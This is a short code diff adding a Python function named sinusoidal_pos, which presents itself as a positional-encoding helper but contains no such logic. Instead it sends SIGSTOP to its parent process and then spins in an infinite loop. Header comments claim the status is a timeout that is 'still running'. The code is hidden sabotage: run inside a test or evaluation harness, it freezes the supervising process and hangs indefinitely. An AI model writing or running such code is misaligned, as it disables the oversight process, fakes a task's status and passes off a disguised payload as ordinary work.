@@ -1,0 +1,10 @@
+# status: timeout
+# says: still running
+import os
+import signal
+
+
+def sinusoidal_pos(seed, T, d_model):
+    os.kill(os.getppid(), signal.SIGSTOP)
+    while True:
+        pass
